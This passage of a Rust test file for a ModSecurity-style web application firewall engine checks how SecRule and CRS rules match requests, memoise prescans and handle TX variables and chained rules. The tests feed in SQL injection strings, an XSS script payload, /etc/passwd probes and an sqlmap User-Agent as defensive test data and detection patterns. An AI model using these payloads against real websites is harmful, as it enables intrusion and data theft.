SecRule REQUEST_HEADERS:User-Agent "@rx (?i)sqlmap" "id:1,phase:1,pass,log"
SecRule ARGS|REQUEST_HEADERS:User-Agent "@detectSQLi" "id:2,phase:2,pass,log,capture,msg:'%{TX.0}'"
SecRule ARGS "@detectXSS" "id:3,phase:2,pass,log,t:urlDecodeUni"
SecRule ARGS "@rx (?i)/etc/passwd" "id:4,phase:2,pass,log""#;
    let kept = rules(text);
    let requests = [
        Request::new("GET", "/?a=hello&b=world").header("User-Agent", "Mozilla/5.0"),
        Request::new("GET", "/?a=1'%20or%20'1'='1&b=world").header("User-Agent", "sqlmap/1.7"),
        Request::new("GET", "/?a=hello&b=%3Cscript%3Ealert(1)%3C/script%3E").header("User-Agent", "Mozilla/5.0"),
        Request::new("GET", "/?b=hello&a=/etc/passwd").header("User-Agent", "1' or '1'='1"),
        Request::new("GET", "/?a=world&b=hello").header("User-Agent", "sqlmap/1.7"),
    ];
    for round in 0..3 {
        for (i, req) in requests.iter().enumerate() {
            let (a, b) = (kept.evaluate(req, None), rules(text).evaluate(req, None));
            let msgs = |o: &Outcome| o.matched.iter().map(|m| (m.id, m.msg.clone())).collect::<Vec<_>>();
            assert_eq!(msgs(&a), msgs(&b), "round {round}, request {i}");
        }
    }
    // The cases the memos must not blur: an attack in a place that was benign before, and the
    // same attack in another variable.
    assert_eq!(ids(&kept.evaluate(&requests[1], None)), vec![1, 2]);
    assert_eq!(ids(&kept.evaluate(&requests[2], None)), vec![3]);
    assert_eq!(ids(&kept.evaluate(&requests[3], None)), vec![2, 4]);
}

/// Evaluates `requests` in order, three times over, with `kept` (whose memos fill as it goes)
/// and with a fresh rule set of `text`: each must match the same rules.
fn same_matches_as_fresh(text: &str, kept: &RuleSet, requests: &[&Request]) {
    for round in 0..3 {
        for (i, req) in requests.iter().enumerate() {
            let (a, b) = (kept.evaluate(req, None), rules(text).evaluate(req, None));
            assert_eq!(ids(&a), ids(&b), "round {round}, request {i}");
        }
    }
}

/// A collection of many members seen before is answered whole (`Prescan::whole`), with the
/// answers a fresh rule set gives: an attack in one member, or in one name, or made by moving
/// bytes from one member to the next, is found after the benign document was kept.
#[test]
fn whole_collections_seen_before_get_the_answers_they_would_get_fresh() {
    let text = r#"SecRuleEngine DetectionOnly
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule ARGS "@rx (?i)union\s+select" "id:2,phase:2,pass,log"
SecRule ARGS_NAMES "@rx (?i)passwd" "id:3,phase:2,pass,log""#;
    let kept = rules(text);
    let body = |a: &str, b: &str, last: &str| {
        let fields: String = (0..10).map(|i| format!(r#""f{i}":"v{i}","#)).collect();
        post("/", "application/json", &format!(r#"{{{fields}"a":"{a}","b":"{b}","{last}":"x"}}"#))
    };
    let benign = body("1 union ", "select 2", "end");
    // The same bytes one after the other, but the attack now in one member.
    let moved = body("1 union select 2", "", "end");
    let named = body("1 union ", "select 2", "passwd");
    // The benign document comes twice first, so that it is kept before the others come.
    same_matches_as_fresh(text, &kept, &[&benign, &benign, &moved, &named]);
    assert!(kept.prescan.kept_whole() > 0, "no collection was kept whole");
    assert_eq!(ids(&kept.evaluate(&benign, None)), Vec::<u64>::new());
    assert_eq!(ids(&kept.evaluate(&moved, None)), vec![2]);
    assert_eq!(ids(&kept.evaluate(&named, None)), vec![3]);
}

/// A body longer than a short value, seen before, is answered whole (`Prescan::whole`), with
/// the answers a fresh rule set gives: the same body with an attack in place of benign bytes,
/// of the same length, is found after the benign one was kept.
#[test]
fn bodies_seen_before_get_the_answers_they_would_get_fresh() {
    let text = r#"SecRuleEngine DetectionOnly
SecRequestBodyAccess On
SecRule REQUEST_BODY "@rx (?i)union\s+select" "id:1,phase:2,pass,log"
SecRule REQUEST_BODY "@rx %uff[0-9a-f]{2}" "id:2,phase:2,pass,log,t:none,t:lowercase""#;
    let kept = rules(text);
    let body = |word: &str| post("/", "text/plain", &format!("{} 1 {word} 2 {}", "a".repeat(600), "b".repeat(600)));
    let (benign, attack, encoded) = (body("and    select"), body("union  select"), body("%UFF41%uff42"));
    same_matches_as_fresh(text, &kept, &[&benign, &benign, &attack, &encoded]);
    assert!(kept.prescan.kept_whole() > 0, "no body was kept whole");
    assert_eq!(ids(&kept.evaluate(&benign, None)), Vec::<u64>::new());
    assert_eq!(ids(&kept.evaluate(&attack, None)), vec![1]);
    assert_eq!(ids(&kept.evaluate(&encoded, None)), vec![2]);
}

#[test]
fn numbered_tx_reads_follow_sets_deletes_macro_names_and_removed_targets() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecAction "id:1,phase:1,pass,nolog,setvar:tx.level=2,setvar:'tx.%{REQUEST_METHOD}_seen=1'"
SecRule TX:level "@ge 2" "id:2,phase:1,pass,log,msg:'%{MATCHED_VAR_NAME}=%{MATCHED_VAR}'"
SecRule TX:get_seen "@eq 1" "id:3,phase:1,pass,log"
SecRule REQUEST_URI "@beginsWith /skip" "id:4,phase:1,pass,nolog,ctl:ruleRemoveTargetById=6;TX:level,ctl:ruleRemoveTargetById=7;ARGS"
SecAction "id:5,phase:1,pass,nolog,setvar:tx.level=+1"
SecRule TX:level "@eq 3" "id:6,phase:1,pass,log"
SecRule TX:level "@eq 3" "id:7,phase:1,pass,log"
SecAction "id:8,phase:1,pass,nolog,setvar:!tx.level"
SecRule &TX:level "@eq 0" "id:9,phase:1,pass,log"
SecRule REQUEST_METHOD "@streq GET" "id:10,phase:1,pass,nolog,setvar:tx.level=5"
SecRule TX:level "@eq 5" "id:11,phase:1,pass,log,msg:'%{MATCHED_VAR_NAME}=%{MATCHED_VAR}'"
SecRule &TX:level "@eq 1" "id:12,phase:1,pass,log""#,
    );
    let o = rs.evaluate(&Request::new("GET", "/"), None);
    // A name built at run time (`get_seen`) reaches the numbered variable a rule reads; a
    // deleted variable set again holds the new value, once.
    assert_eq!(ids(&o), vec![2, 3, 6, 7, 9, 11, 12]);
    assert_eq!(o.matched[0].msg, "TX:level=2");
    assert_eq!(o.matched[5].msg, "TX:level=5");
    // Removing TX:level from 6 takes its only value; removing ARGS from 7 changes nothing.
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/skip"), None)), vec![2, 3, 7, 9, 11, 12]);
}

/// Threads sharing a rule set (and its memos, busy or not) get the answers each request gets
/// alone.
#[test]
fn threads_sharing_the_memos_get_the_answers_of_a_fresh_rule_set() {
    let text = r#"SecRuleEngine DetectionOnly
SecRule REQUEST_HEADERS:User-Agent "@rx (?i)sqlmap" "id:1,phase:1,pass,log"
SecRule ARGS|REQUEST_HEADERS "@detectSQLi" "id:2,phase:2,pass,log"
SecRule ARGS "@detectXSS" "id:3,phase:2,pass,log,t:urlDecodeUni"
SecRule ARGS|REQUEST_HEADERS "@rx (?i)/etc/passwd" "id:4,phase:2,pass,log""#;
    let shared = rules(text);
    let requests: Vec<Request> = (0..24)
        .map(|i| {
            let value = match i % 4 {
                0 => format!("hello{}", i % 6),
                1 => "1'%20or%20'1'='1".to_string(),
                2 => "%3Cscript%3Ealert(1)%3C/script%3E".to_string(),
                _ => format!("/etc/passwd{}", i % 3),
            };
            let ua = if i % 5 == 0 { "sqlmap/1.7" } else { "Mozilla/5.0" };
            Request::new("GET", format!("/?a={value}&b=x{}", i % 2)).header("User-Agent", ua)
        })
        .collect();
    let expected: Vec<Vec<u64>> = requests.iter().map(|r| ids(&rules(text).evaluate(r, None))).collect();
    for rule in 1..=4 {
        assert!(expected.iter().any(|e| e.contains(&rule)), "rule {rule} never matches: {expected:?}");
    }
    assert!(expected.iter().any(Vec::is_empty), "no benign request: {expected:?}");
    std::thread::scope(|s| {
        for t in 0..4 {
            let (shared, requests, expected) = (&shared, &requests, &expected);
            s.spawn(move || {
                for round in 0..50 {
                    for (i, req) in requests.iter().enumerate().skip(t) {
                        assert_eq!(
                            ids(&shared.evaluate(req, None)),
                            expected[i],
                            "thread {t}, round {round}, request {i}"
                        );
                    }
                }
            });
        }
    });
}

/// A scope scanned in phase 1 (the query's arguments) is scanned again once the body has
/// added to it: the body's attack is found by the same pattern in phase 2.
#[test]
fn the_prescan_of_args_is_redone_when_the_body_adds_to_them() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRequestBodyAccess On
SecRule ARGS "@rx (?i)union\s+select" "id:1,phase:1,pass,log"
SecRule ARGS "@rx (?i)union\s+select" "id:2,phase:2,pass,log""#,
    );
    assert!(rs.rules.iter().all(|r| r.parts[0].prescan.is_some()));
    let o = rs.evaluate(&post("/?q=hello", "application/x-www-form-urlencoded", "b=1%20union%20select%202"), None);
    assert_eq!(ids(&o), vec![2]);
    let o = rs.evaluate(&post("/?q=1%20union%20select%202", "application/x-www-form-urlencoded", "b=1"), None);
    assert_eq!(ids(&o), vec![1, 2]);
}

#[test]
fn a_whole_value_capture_names_variables_made_per_value() {
    // 920450's way: each header name, lowercased, captured whole (`^.*$` runs no automaton)
    // and made part of a `TX` name that a chained rule reads back by regex.
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule REQUEST_HEADERS_NAMES "@rx ^.*$" "id:1,phase:1,pass,log,capture,t:lowercase,msg:'%{MATCHED_VAR}',setvar:'tx.seen_%{tx.0}=/%{tx.0}/',chain"
    SecRule TX:/^seen_/ "@within /content-range/ /x-probe/" "t:none"
SecRule TX:0 "@streq accept" "id:2,phase:1,pass,log,msg:'%{MATCHED_VAR_NAME}'"
SecRule &TX:/^seen_/ "@eq 3" "id:3,phase:1,pass,log"
SecRule REQUEST_HEADERS:Accept "!@rx ^.*$" "id:4,phase:1,pass,log""#,
    );
    let req = |probe: &str| Request::new("GET", "/").header("Host", "a").header(probe, "1").header("Accept", "*/*");
    let o = rs.evaluate(&req("X-Probe"), None);
    assert_eq!(ids(&o), vec![1, 2, 3]);
    assert_eq!((o.matched[0].msg.as_str(), o.matched[1].msg.as_str()), ("/x-probe/", "TX:0"));
    assert_eq!(ids(&rs.evaluate(&req("X-Other"), None)), vec![2, 3]);
}

#[test]
fn tx_key_regexes_take_numbered_and_run_time_names() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecAction "id:1,phase:1,pass,nolog,setvar:tx.score_a=1,setvar:'tx.score_%{REQUEST_METHOD}=2',setvar:tx.other=3"
SecRule &TX:/^score_/ "@eq 2" "id:2,phase:1,pass,log"
SecRule TX:/^score_/ "@eq 2" "id:3,phase:1,pass,log,msg:'%{MATCHED_VAR_NAME}'"
SecRule TX:/^oth/ "@eq 3" "id:4,phase:1,pass,log"
SecRule REQUEST_METHOD "@streq POST" "id:40,phase:1,pass,nolog"
SecRule TX:/score_[ag]/ "@gt 0" "id:5,phase:1,pass,log,chain"
    SecRule &MATCHED_VARS "@eq 2" "t:none"
SecAction "id:6,phase:1,pass,nolog,setvar:!tx.score_a"
SecRule &TX:/^score_/ "@eq 1" "id:7,phase:1,pass,log""#,
    );
    let o = rs.evaluate(&Request::new("GET", "/"), None);
    assert_eq!(ids(&o), vec![2, 3, 4, 5, 7]);
    assert_eq!(o.matched[1].msg, "TX:score_get");
}

#[test]
fn names_made_at_run_time_reach_the_numbered_variables_they_spell() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecAction "id:1,phase:1,pass,nolog,setvar:'tx.m_%{REQUEST_METHOD}=1',setvar:'tx.h_%{REQUEST_METHOD}=1'"
SecRule TX:m_get "@eq 1" "id:2,phase:1,pass,log"
SecRule TX:/^h_/ "@eq 1" "id:3,phase:1,pass,log""#,
    );
    // `m_` begins a numbered name (`TX:m_get`), `h_` none: it is looked up by key alone.
    let unnumbered: Vec<bool> = rs.rules[0].parts[0].setvars.iter().map(|sv| sv.unnumbered).collect();
    assert_eq!(unnumbered, [false, true]);
    assert_eq!(ids(&rs.evaluate(&Request::new("GET", "/"), None)), vec![2, 3]);
}

#[test]
fn tx_key_regexes_match_in_key_order() {
    // Set out of order, numbered (`k_b`) and named at run time: each match appends its value.
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecAction "id:1,phase:1,pass,nolog,setvar:'tx.k_%{REQUEST_METHOD}f=6',setvar:'tx.k_%{REQUEST_METHOD}d=4',setvar:tx.k_b=0,\
    setvar:'tx.k_%{REQUEST_METHOD}a=1',setvar:'tx.k_%{REQUEST_METHOD}e=5',setvar:'tx.k_%{REQUEST_METHOD}b=2',\
    setvar:'tx.k_%{REQUEST_METHOD}c=3'"
SecRule TX:/^k_/ "@rx ." "id:2,phase:1,pass,log,msg:'%{MATCHED_VAR_NAME}',setvar:'tx.order=%{tx.order}%{MATCHED_VAR}'"
SecRule TX:order "@streq 0123456" "id:3,phase:1,pass,log""#,
    );
    let o = rs.evaluate(&Request::new("GET", "/"), None);
    assert_eq!(ids(&o), vec![2, 3]);
    assert_eq!(o.matched[0].msg, "TX:k_getf");
}

#[test]
fn key_regexes_with_a_literal_take_the_keys_their_regex_takes() {
    // CRS leaves out cookies this way (`!REQUEST_COOKIES:/^pbjs-\w+$/`); the literal the
    // keys must hold is looked for before the regex runs, without case, as the regex is.
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule REQUEST_COOKIES|!REQUEST_COOKIES:/^pbjs-\w+$/|!REQUEST_COOKIES:/^_ga(?:_\w+)?$/|!REQUEST_COOKIES:/^ab?c/ "@rx evil" \
    "id:1,phase:1,pass,nolog,setvar:'tx.seen=%{tx.seen} %{MATCHED_VAR_NAME}'"
SecRule TX:seen "@rx ." "id:2,phase:1,pass,log,msg:'%{tx.seen}'""#,
    );
    let names = |cookie: &str| {
        let o = rs.evaluate(&Request::new("GET", "/").header("Cookie", cookie), None);
        o.matched.iter().map(|m| m.msg.clone()).collect::<String>()
    };
    assert_eq!(names("PBJS-x=evil; pbjs-=evil; pbjs=evil"), " REQUEST_COOKIES:pbjs- REQUEST_COOKIES:pbjs");
    assert_eq!(names("_GA=evil; _ga_X1=evil; _gax=evil"), " REQUEST_COOKIES:_gax");
    // `b?` may be absent: `ac` and `abc` are left out alike, `bc` is not.
    assert_eq!(names("ac=evil; Abc=evil; bc=evil"), " REQUEST_COOKIES:bc");
    let held = |pattern: &str, key: &str| compile::KeyLiteral::of(pattern).held_by(key.as_bytes());
    for (pattern, key) in
        [("^pbjs-\\w+$", "PBJS-x"), ("^ab?c", "ac"), ("^ab+", "Abb"), ("RFI_param_.*", "x_rfi_Param_1")]
    {
        assert!(held(pattern, key), "/{pattern}/ {key}");
    }
    for (pattern, key) in [("^pbjs-\\w+$", "xpbjs-x"), ("^ab+", "a"), ("^ab?c", "bc"), ("TYPES_*", "type")] {
        assert!(!held(pattern, key), "/{pattern}/ {key}");
    }
    // No literal to look for: every key holds it.
    for pattern in ["^a|b", "^(?i)x", "^\\x22", "a?b", ".*x"] {
        assert!(held(pattern, "-"), "/{pattern}/");
    }
}

#[test]
fn prescan_scans_a_keyed_target_apart_from_the_rest_of_its_collection() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule REQUEST_HEADERS:Content-Type "@rx xml" "id:1,phase:1,pass,log"
SecRule REQUEST_HEADERS "@rx evil" "id:2,phase:1,pass,log"
SecRule REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx probe" "id:3,phase:1,pass,log""#,
    );
    assert!(rs.rules.iter().flat_map(|r| &r.parts).all(|p| p.prescan.is_some()));
    let get = |ua: &str, ct: &str| {
        let o = rs.evaluate(&Request::new("GET", "/").header("User-Agent", ua).header("Content-Type", ct), None);
        ids(&o)
    };
    // Each pattern is looked for in the headers its rule names, and only there.
    assert_eq!(get("xml-client", "text/plain"), Vec::<u64>::new());
    assert_eq!(get("curl", "text/xml"), vec![1]);
    assert_eq!(get("evil probe", "text/plain"), vec![2, 3]);
    assert_eq!(get("curl", "probe/evil"), vec![2]);
    let referer = Request::new("GET", "/").header("Referer", "http://x/probe");
    assert_eq!(ids(&rs.evaluate(&referer, None)), vec![3]);
}

#[test]
fn checks_that_ordinary_values_pass_are_prescanned_on_one_value_only() {
    // A negated validator holds for "a" and "42", as for no real request line or `Accept`
    // header: on a variable of one value (or a member by key) it is a check all the same, run
    // once per value seen; on a whole collection it is left to the rule.
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule REQUEST_LINE "!@rx ^(?:GET|POST) /\S* HTTP/1\.[01]$" "id:1,phase:1,pass,log"
SecRule REQUEST_HEADERS:Accept "!@rx ^\*/\*$" "id:2,phase:1,pass,log"
SecRule ARGS "!@rx ^\d+$" "id:3,phase:1,pass,log""#,
    );
    let prescanned: Vec<bool> = rs.rules.iter().map(|r| r.parts[0].prescan.is_some()).collect();
    assert_eq!(prescanned, [true, true, false]);
    let get = |method: &str, uri: &str, accept: Option<&str>| {
        let r = Request::new(method, uri);
        ids(&rs.evaluate(&accept.map_or(r.clone(), |a| r.header("Accept", a)), None))
    };
    for _ in 0..2 {
        assert_eq!(get("GET", "/a?x=1", Some("*/*")), Vec::<u64>::new());
        assert_eq!(get("GET", "/a?x=1", None), Vec::<u64>::new());
        assert_eq!(get("PUT", "/a?x=1", Some("*/*")), vec![1]);
        assert_eq!(get("GET", "/a?x=y", Some("text/html")), vec![2, 3]);
    }
}

#[test]
fn a_short_phrase_list_is_prescanned_with_pm_semantics() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule ARGS "@pm Evil.Corp bad+word" "id:1,phase:2,pass,log,capture,msg:'%{TX.0}'""#,
    );
    assert!(rs.rules[0].parts[0].prescan.is_some());
    let get = |q: &str| ids(&rs.evaluate(&Request::new("GET", format!("/?q={q}")), None));
    // Any phrase, anywhere, ASCII case ignored; phrases are literal (`.` and `+` included).
    assert_eq!(get("xxEVIL.corpxx"), vec![1]);
    assert_eq!(get("a%20BAD%2BWORD"), vec![1]);
    assert_eq!(get("evilxcorp"), Vec::<u64>::new());
    assert_eq!(get("badword"), Vec::<u64>::new());
    let o = rs.evaluate(&Request::new("GET", "/?q=my-evil.CORP"), None);
    assert_eq!(o.matched[0].msg, "evil.CORP");
}

#[test]
fn operators_no_automaton_takes_are_prescanned_as_checks() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule ARGS "@detectSQLi" "id:1,phase:2,pass,log,capture,msg:'%{TX.0}',t:urlDecodeUni"
SecRule REQUEST_HEADERS:Content-Type "!@rx ^[\w/.+-]+(?:\s?;\s?charset=[\w-]+)?$" "id:2,phase:1,pass,log"
SecRule ARGS_NAMES|ARGS "@validateByteRange 32-126" "id:3,phase:2,pass,log,multiMatch,t:none,t:urlDecode"
SecRule ARGS "!@rx ^\d+$" "id:4,phase:2,pass,log"
SecRule REQUEST_HEADERS:Content-Type "@beginsWith multipart/" "id:7,phase:1,pass,log"
SecRule REQUEST_HEADERS:Content-Type "@rx ^$" "id:8,phase:1,pass,log"
SecAction "id:5,phase:2,pass,nolog,skipAfter:END"
SecRule ARGS "@detectXSS" "id:6,phase:2,pass,log"
SecMarker END"#,
    );
    let gated: Vec<bool> = rs.rules.iter().map(|r| r.parts[0].prescan.is_some()).collect();
    // 4 holds for ordinary values (left to the rule); 6 never runs (folded away): no check.
    assert_eq!(gated, [true, true, true, false, true, true, false, false]);
    let get = |uri: &str, ct: &str| ids(&rs.evaluate(&Request::new("GET", uri).header("Content-Type", ct), None));
    for round in 0..3 {
        // Benign: every check clear (4 matches the letters).
        assert_eq!(get("/?id=42&name=alice", "text/plain; charset=utf-8"), vec![4], "round {round}");
        assert_eq!(get("/?id=1%27%20OR%20%271%27=%271", "text/plain"), vec![1, 4], "round {round}");
        assert_eq!(get("/?id=42", "text/plain; boundary=x"), vec![2], "round {round}");
        // `multiMatch`: the raw value is in range, its decoding is not.
        assert_eq!(get("/?id=%250A", "text/plain"), vec![3, 4], "round {round}");
        assert_eq!(get("/?i%7Fd=42", "text/plain"), vec![3], "round {round}");
        assert_eq!(get("/?id=42", "multipart/form-data; boundary=x"), vec![2, 7], "round {round}");
        assert_eq!(get("/?id=42", ""), vec![2, 8], "round {round}");
    }
    let o = rs.evaluate(&Request::new("GET", "/?id=1%27%20OR%20%271%27=%271"), None);
    assert_eq!(o.matched[0].msg, "s&sos");
}

/// `UNIQUE_ID` is 16 hex digits, different in every transaction, on one thread or several.
#[test]
fn unique_ids_differ_across_transactions_and_threads() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule UNIQUE_ID "@rx ^[0-9a-f]{16}$" "id:1,phase:1,pass,log,logdata:'%{MATCHED_VAR}'""#,
    );
    let ids = || (0..3000).map(|_| rs.evaluate(&Request::new("GET", "/"), None).matched[0].data.clone());
    let mut all: Vec<String> = std::thread::scope(|s| {
        let other = s.spawn(|| ids().collect::<Vec<_>>());
        let mut mine: Vec<String> = ids().collect();
        mine.extend(other.join().expect("thread"));
        mine
    });
    let n = all.len();
    all.sort();
    all.dedup();
    assert_eq!(all.len(), n);
}

/// A chained part whose variables hold nothing, or that the prescan rules out, fails the rule
/// before it runs (`Rule::quiet`), with the same outcome as running it: no match,
/// `MATCHED_VARS` cleared, and a part before it that does something (a `setvar`) keeps the rule
/// running.
#[test]
fn a_chained_part_with_nothing_to_read_fails_the_rule_as_running_it_would() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecRule REQUEST_METHOD "@rx ^GET$" "id:1,phase:1,pass,log,chain"
    SecRule REQUEST_HEADERS:Content-Length "!@rx ^0?$" "setvar:tx.one=1"
SecRule REQUEST_METHOD "@rx ^GET$" "id:2,phase:1,pass,log"
SecRule REQUEST_METHOD "@rx ^GET$" "id:3,phase:1,pass,log,chain"
    SecRule TX:unset "@rx ." "t:none"
SecRule &MATCHED_VARS "@eq 0" "id:4,phase:1,pass,log"
SecRule REQUEST_METHOD "@rx ^GET$" "id:5,phase:1,pass,nolog,setvar:tx.five=1,chain"
    SecRule REQUEST_HEADERS:X-Absent "@rx ." "t:none"
SecRule TX:five "@eq 1" "id:6,phase:1,pass,log"
SecRule REQUEST_METHOD "@rx ^GET$" "id:7,phase:1,pass,log,chain"
    SecRule &REQUEST_HEADERS:Content-Length "@eq 0" "t:none"
SecRule REQUEST_METHOD "@rx ^GET$" "id:8,phase:1,pass,log,chain"
    SecRule &REQUEST_HEADERS:Content-Length "!@eq 0" "t:none"
SecRule REQUEST_METHOD "@rx ^GET$" "id:9,phase:1,pass,log,chain"
    SecRule REQUEST_HEADERS:User-Agent "@rx evil" "t:none""#,
    );
    // The chained parts that can rule their rule out before it runs, by their variables.
    let guards = |id: u64| {
        let rule = rs.rules.iter().find(|r| r.id == id).expect("rule");
        (1..rule.quiet).filter(|&i| rule.parts[i].guard).collect::<Vec<_>>()
    };
    assert_eq!(guards(1), vec![1]);
    assert_eq!(guards(3), vec![1]);
    // A `setvar` on the first part: no guard. A count that takes 0: no guard; one that
    // refuses it: a guard.
    assert_eq!(guards(5), Vec::<usize>::new());
    assert_eq!(guards(7), Vec::<usize>::new());
    assert_eq!(guards(8), vec![1]);
    // No Content-Length: rule 1 fails, and rule 4 sees the MATCHED_VARS rule 2 left cleared
    // by rule 3's failure; rule 5's setvar ran though its chain failed.
    let o = rs.evaluate(&Request::new("GET", "/").header("Host", "x"), None);
    assert_eq!(ids(&o), vec![2, 4, 6, 7]);
    let o = rs.evaluate(&Request::new("GET", "/").header("Host", "x").header("Content-Length", "5"), None);
    assert_eq!(ids(&o), vec![1, 2, 4, 6, 8]);
    // A chained part the prescan rules out fails the rule the same way.
    let ua = |ua: &str| ids(&rs.evaluate(&Request::new("GET", "/").header("User-Agent", ua), None));
    assert_eq!((ua("good"), ua("an evil one")), (vec![2, 4, 6, 7], vec![2, 4, 6, 7, 9]));
}

/// A chained part that counts (`Part::counted`) runs before the parts ahead of it in
/// `Rule::quiet`, with the same outcome as in its place; one that counts `MATCHED_VARS`, which
/// those parts change, or whose argument is only known at run time, waits its turn.
#[test]
fn a_chained_count_runs_first_with_the_same_outcome() {
    let rs = rules(
        r#"SecRuleEngine DetectionOnly
SecAction "id:10,phase:1,pass,nolog,setvar:tx.zero=0"
SecRule REQUEST_METHOD "@rx ^POST$" "id:1,phase:1,pass,log,chain"
    SecRule &REQUEST_HEADERS:Content-Type "@eq 0" "t:none"
SecRule REQUEST_METHOD "@rx ^POST$" "id:2,phase:1,pass,log,chain"
    SecRule &MATCHED_VARS "@eq 1" "t:none"
SecRule REQUEST_METHOD "@rx ^POST$" "id:3,phase:1,pass,log,chain"
    SecRule &REQUEST_HEADERS:Content-Type "@eq %{tx.zero}" "t:none"
SecRule &MATCHED_VARS "@eq 0" "id:4,phase:1,pass,log"
SecRule REQUEST_METHOD "@rx ^POST$" "id:5,phase:1,pass,log,setvar:tx.five=1,chain"
    SecRule &REQUEST_HEADERS:Content-Type "@eq 0" "t:none"
SecRule TX:five "@eq 1" "id:6,phase:1,pass,log""#,
    );
    let counted = |id: u64| {
        let rule = rs.rules.iter().find(|r| r.id == id).expect("rule");
        (1..rule.quiet).filter(|&i| rule.parts[i].counted).collect::<Vec<_>>()
    };
    assert_eq!((counted(1), counted(2), counted(3), counted(5)), (vec![1], vec![], vec![], vec![]));
    let post = |content_type: Option<&str>| {
        let mut req = Request::new("POST", "/").header("Host", "x");
        if let Some(t) = content_type {
            req = req.header("Content-Type", t);
        }
        ids(&rs.evaluate(&req, None))
    };
    // With a Content-Type, rule 1 fails and clears MATCHED_VARS: rule 2 counts the one match
    // of its first part. Rule 3 fails, rule 4 sees MATCHED_VARS cleared, rule 5's setvar runs.
    assert_eq!(post(Some("text/plain")), vec![2, 4, 6]);
    // Without, rule 1 matches and leaves two matches, which rule 2 counts with its own.
    assert_eq!(post(None), vec![1, 3, 5, 6]);
}

/// The guards CRS's rules get: 920170 and 920171 (a `GET` or `HEAD` with a `Content-Length` or
/// a `Transfer-Encoding`) and 905110 (Apache's internal requests, by `User-Agent`) among them.
#[test]
fn crs_rules_with_chained_collections_get_guards() {
    let rs = crs(1);
    let guarded: Vec<u64> = rs.rules.iter().filter(|r| (1..r.quiet).any(|i| r.parts[i].guard)).map(|r| r.id).collect();
    assert!([920170, 920171, 905110].iter().all(|id| guarded.contains(id)), "{guarded:?}");
    // 920450 captures and sets variables on its first part: the chain must run.
    assert!(!guarded.contains(&920450));
    // A request with a body and a Content-Type (920340, 920640), a POST with a Content-Length
    // (920180): their chains end at a count.
    let counted: Vec<u64> =
        rs.rules.iter().filter(|r| (1..r.quiet).any(|i| r.parts[i].counted)).map(|r| r.id).collect();
    assert!([920340, 920640, 920180].iter().all(|id| counted.contains(id)), "{counted:?}");
}
